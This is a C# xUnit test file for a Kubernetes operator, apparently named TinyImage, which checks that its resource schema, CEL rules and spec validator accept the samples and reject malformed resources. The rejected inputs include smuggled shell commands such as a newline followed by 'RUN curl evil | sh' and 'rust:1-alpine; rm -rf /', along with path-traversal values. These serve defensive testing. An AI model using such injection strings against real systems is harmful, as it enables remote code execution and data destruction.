using System.Text.Json;
using System.Text.Json.Nodes;
using TinyImage.Api;
using TinyImage.Testing;
using TinyImage.Yaml;
using Xunit;

namespace TinyImage.Operator.Tests.Crd;

/// <summary>
/// The samples pass, and each bad resource fails, both the API server's checks (emulated from the generated CRD:
/// schema + CEL) and SpecValidator.
/// </summary>
public sealed class SchemaValidationTests
{
    private const string Base = """
        apiVersion: tinyimage.dev/v1alpha1
        kind: TinyImage
        metadata: {name: bad, namespace: demo}
        spec:
          source: {configMap: {name: hello-src}}
          binary: hello
          output: {repository: registry.local:5000/hello}
        """;

    // Each bad resource: the base with one change (a JSON path of objects, then the value; null removes).
    private static readonly Dictionary<string, Action<JsonObject>> BadResources = new(StringComparer.Ordinal)
    {
        ["binary name with a newline"] = r => Set(r, "spec.binary", "hello\nRUN curl evil | sh"),
        ["binary name with a space"] = r => Set(r, "spec.binary", "hello world"),
        ["binary name too long"] = r => Set(r, "spec.binary", "h" + new string('e', 64)),
        ["missing binary"] = r => Set(r, "spec.binary", null),
        ["feature injection"] = r => Set(r, "spec.build.features", new JsonArray("json", "x --config=evil")),
        ["too many features"] = r => Set(r, "spec.build.features", new JsonArray([.. Enumerable.Range(0, 65).Select(i => (JsonNode)("f" + i))])),
        ["both sources"] = r => Set(r, "spec.source.git", new JsonObject { ["url"] = "https://github.com/example/hello" }),
        ["no source"] = r => Set(r, "spec.source.configMap", null),
        ["scratchOnly with a distroless base"] = r =>
        {
            Set(r, "spec.verify.scratchOnly", true);
            Set(r, "spec.build.base", "distroless-static");
        },
        ["base scratch without staticLinking"] = r => Set(r, "spec.build.staticLinking", false),
        ["base distroless-static without staticLinking"] = r =>
        {
            Set(r, "spec.build.base", "distroless-static");
            Set(r, "spec.build.staticLinking", false);
        },
        ["builderHasCargoAuditable without builderImage"] = r => Set(r, "spec.build.builderHasCargoAuditable", true),
        ["builder image with a shell command"] = r => Set(r, "spec.build.builderImage", "rust:1-alpine; rm -rf /"),
        ["bad quantity"] = r => Set(r, "spec.verify.maxImageSize", "4 megabytes"),
        ["bad quantity suffix"] = r => Set(r, "spec.build.resources.limits", new JsonObject { ["memory"] = "12Gx" }),
        ["unknown libc"] = r => Set(r, "spec.build.libc", "glibc"),
        ["unknown base"] = r => Set(r, "spec.build.base", "alpine"),
        ["unknown service type"] = r => Set(r, "spec.deploy.service.type", "ExternalName"),
        ["container port out of range"] = r => Set(r, "spec.deploy.containerPort", 70000),
        ["service port zero"] = r => Set(r, "spec.deploy.service.port", 0),
        ["negative replicas"] = r => Set(r, "spec.deploy.replicas", -1),
        ["build timeout too short"] = r => Set(r, "spec.build.timeoutSeconds", 5),
        ["git url with credentials"] = r =>
        {
            Set(r, "spec.source.configMap", null);
            Set(r, "spec.source.git", new JsonObject { ["url"] = "https://user:token@github.com/example/hello" });
        },
        ["git url over ssh"] = r =>
        {
            Set(r, "spec.source.configMap", null);
            Set(r, "spec.source.git", new JsonObject { ["url"] = "git@github.com:example/hello.git" });
        },
        ["git branch and tag"] = r =>
        {
            Set(r, "spec.source.configMap", null);
            Set(r, "spec.source.git", new JsonObject { ["url"] = "https://github.com/example/hello", ["ref"] = new JsonObject { ["branch"] = "main", ["tag"] = "v1" } });
        },
        ["git branch with dot dot"] = r =>
        {
            Set(r, "spec.source.configMap", null);
            Set(r, "spec.source.git", new JsonObject { ["url"] = "https://github.com/example/hello", ["ref"] = new JsonObject { ["branch"] = "a..b" } });
        },
        ["git subPath escaping the repository"] = r =>
        {
            Set(r, "spec.source.configMap", null);
            Set(r, "spec.source.git", new JsonObject { ["url"] = "https://github.com/example/hello", ["subPath"] = "services/../../etc" });
        },
        ["configMap item path with dot dot"] = r => Set(r, "spec.source.configMap.items", new JsonArray(new JsonObject { ["key"] = "main.rs", ["path"] = "src/../../main.rs" })),
        ["env with value and valueFrom"] = r => Set(r, "spec.deploy.env", new JsonArray(new JsonObject
        {
            ["name"] = "TOKEN",
            ["value"] = "x",
            ["valueFrom"] = new JsonObject { ["secretKeyRef"] = new JsonObject { ["name"] = "api", ["key"] = "token" } },
        })),
        ["env valueFrom with two references"] = r => Set(r, "spec.deploy.env", new JsonArray(new JsonObject
        {
            ["name"] = "TOKEN",
            ["valueFrom"] = new JsonObject
            {
                ["secretKeyRef"] = new JsonObject { ["name"] = "api", ["key"] = "token" },
                ["configMapKeyRef"] = new JsonObject { ["name"] = "api", ["key"] = "token" },
            },
        })),
        ["env name with a dash"] = r => Set(r, "spec.deploy.env", new JsonArray(new JsonObject { ["name"] = "MY-VAR", ["value"] = "1" })),
        ["deny package with a space"] = r => Set(r, "spec.verify.denyPackages", new JsonArray("openssl sys")),
        ["output tag with a colon"] = r => Set(r, "spec.output.tag", "v1:latest"),
        ["output repository with uppercase path"] = r => Set(r, "spec.output.repository", "registry.local/Team/Hello"),
        ["push secret with an uppercase name"] = r => Set(r, "spec.output.pushSecret", "Registry"),
        ["release profile opt level 4"] = r => Set(r, "spec.build.profile.optLevel", "4"),
        // Names whose children cannot be created: the Service (named after the TinyImage) needs a DNS-1035 label.
        ["name starting with a digit"] = r => Set(r, "metadata.name", "1hello"),
        ["name with a dot"] = r => Set(r, "metadata.name", "hello.world"),
        ["name of 64 characters"] = r => Set(r, "metadata.name", "h" + new string('e', 63)),
    };

    /// <summary>Every file under config/samples that holds a TinyImage (the source ConfigMap holds none).</summary>
    public static TheoryData<string> Samples() =>
    [
        .. Directory.GetFiles(RepoPaths.Repo("config", "samples"), "*.yaml")
            .Where(f => YamlReader.ReadRoots(File.ReadAllText(f)).OfType<JsonObject>().Any(d => (string?)d["kind"] == "TinyImage"))
            .Order(StringComparer.Ordinal),
    ];

    [Fact]
    public void Config_Samples_Hold_A_ConfigMap_Source_And_A_Git_Source_TinyImage()
    {
        var specs = Samples().Select(row => row.Data)
            .SelectMany(f => YamlReader.ReadRoots(File.ReadAllText(f)).OfType<JsonObject>())
            .Where(d => (string?)d["kind"] == "TinyImage")
            .Select(d => d["spec"]!["source"]!.AsObject())
            .ToList();

        Assert.Contains(specs, s => s.ContainsKey("configMap"));
        Assert.Contains(specs, s => s.ContainsKey("git"));
    }

    public static TheoryData<string> BadResourceNames() => [.. BadResources.Keys];

    [Theory]
    [MemberData(nameof(Samples))]
    public void Sample_Is_Accepted_By_The_Schema_Cel_Rules_And_SpecValidator(string file)
    {
        var tinyImages = YamlReader.ReadRoots(File.ReadAllText(file)).OfType<JsonObject>().Where(d => (string?)d["kind"] == "TinyImage").ToList();
        Assert.NotEmpty(tinyImages);

        foreach (var resource in tinyImages)
        {
            Assert.Empty(ApiServerEmulation.Instance.Validate(resource));
            var validation = SpecValidator.Parse(JsonSerializer.SerializeToElement(resource));
            Assert.Empty(validation.Errors);
            Assert.True(validation.IsValid);
        }
    }

    [Fact]
    public void The_Unchanged_Base_Resource_Is_Accepted_By_Both()
    {
        var resource = Assert.Single(YamlReader.ReadRoots(Base))!.AsObject();

        Assert.Empty(ApiServerEmulation.Instance.Validate(resource));
        Assert.True(SpecValidator.Parse(JsonSerializer.SerializeToElement(resource)).IsValid);
    }

    [Theory]
    [MemberData(nameof(BadResourceNames))]
    public void Bad_Resource_Is_Rejected_By_The_Api_Server_Checks_And_By_SpecValidator(string name)
    {
        var resource = Assert.Single(YamlReader.ReadRoots(Base))!.AsObject();
        BadResources[name](resource);

        var apiServer = ApiServerEmulation.Instance.Validate(resource);
        var validation = SpecValidator.Parse(JsonSerializer.SerializeToElement(resource));

        Assert.NotEmpty(apiServer);
        Assert.DoesNotContain(apiServer, e => e.Contains(" failed: ", StringComparison.Ordinal));
        Assert.False(validation.IsValid);
        Assert.NotEmpty(validation.Errors);
    }

    [Fact]
    public void Every_Cel_Rule_In_The_Crd_Compiles_And_Evaluates_With_The_Cel_Package()
    {
        var rules = ApiServerEmulation.Instance.Rules;

        Assert.Equal(13, rules.Count);
        foreach (var rule in rules.Distinct())
        {
            // An empty object: every has() is false; rules that read a field unguarded report a missing key.
            var self = new JsonObject
            {
                ["base"] = "scratch", ["staticLinking"] = true, ["kind"] = "Ingress", ["builderHasCargoAuditable"] = false, ["path"] = "src/main.rs",
                ["metadata"] = new JsonObject { ["name"] = "hello" },
            };
            var exception = Record.Exception(() => ApiServerEmulation.Instance.Evaluate(rule, self));
            Assert.Null(exception);
        }
    }

    [Fact]
    public void The_Split_Rule_Rejects_Dot_Segments_And_Accepts_Dotted_Names()
    {
        const string rule = "!self.path.split('/').exists(s, s == '..' || s == '.')";

        Assert.False(ApiServerEmulation.Instance.Evaluate(rule, new JsonObject { ["path"] = "src/../x" }));
        Assert.False(ApiServerEmulation.Instance.Evaluate(rule, new JsonObject { ["path"] = "./x" }));
        Assert.True(ApiServerEmulation.Instance.Evaluate(rule, new JsonObject { ["path"] = "src/.hidden/x..rs" }));
    }

    [Fact]
    public void A_Trailing_Newline_Is_Refused_Although_Dotnet_Dollar_Would_Match_Before_It()
    {
        Assert.Matches(new System.Text.RegularExpressions.Regex(global::TinyImage.Api.V1Alpha1.Patterns.BinaryName), "hello\n");
        Assert.DoesNotMatch(SpecValidator.Compile(global::TinyImage.Api.V1Alpha1.Patterns.BinaryName), "hello\n");
    }

    private static void Set(JsonObject root, string path, JsonNode? value)
    {
        var parts = path.Split('.');
        var node = root;
        foreach (var part in parts[..^1])
        {
            if (node[part] is not JsonObject next)
            {
                next = new JsonObject();
                node[part] = next;
            }

            node = next;
        }

        if (value is null)
        {
            node.Remove(parts[^1]);
        }
        else
        {
            node[parts[^1]] = value;
        }
    }
}
